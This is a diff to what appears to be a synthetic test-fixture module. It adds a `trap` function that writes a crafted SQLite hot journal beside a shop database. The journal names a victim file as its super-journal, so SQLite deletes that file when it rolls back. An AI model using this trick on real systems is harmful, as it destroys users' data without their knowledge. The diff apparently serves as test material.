@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import sqlite3
+import struct
 from pathlib import Path
 
 from axolotl_synthetic.records import Question
@@ -45,6 +46,20 @@ def make_shop(path: Path) -> Database:
     connection.commit()
     connection.close()
     return Database(SCHEMA, str(path))
+
+
+def trap(file: Path, victim: Path) -> Path:
+    """A database with a journal beside it that has SQLite delete another file when it takes the change back.
+
+    The journal holds no page, and names the file as the journal of several databases (sqlite.org/fileformat2.html, 3).
+    """
+    make_shop(file)
+    page_size = 4096
+    header = struct.pack(">8sIIIII", b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7", 0, 7, file.stat().st_size // page_size, 512, page_size)
+    name = str(victim).encode()
+    record = struct.pack(">I", 0x40000000 // page_size + 1) + name + struct.pack(">II", len(name), sum(name)) + header[:8]
+    Path(f"{file}-journal").write_bytes(header.ljust(512, b"\0") + record)
+    return file
 
 
 def asked(text: str, file: str | None = None) -> Question:
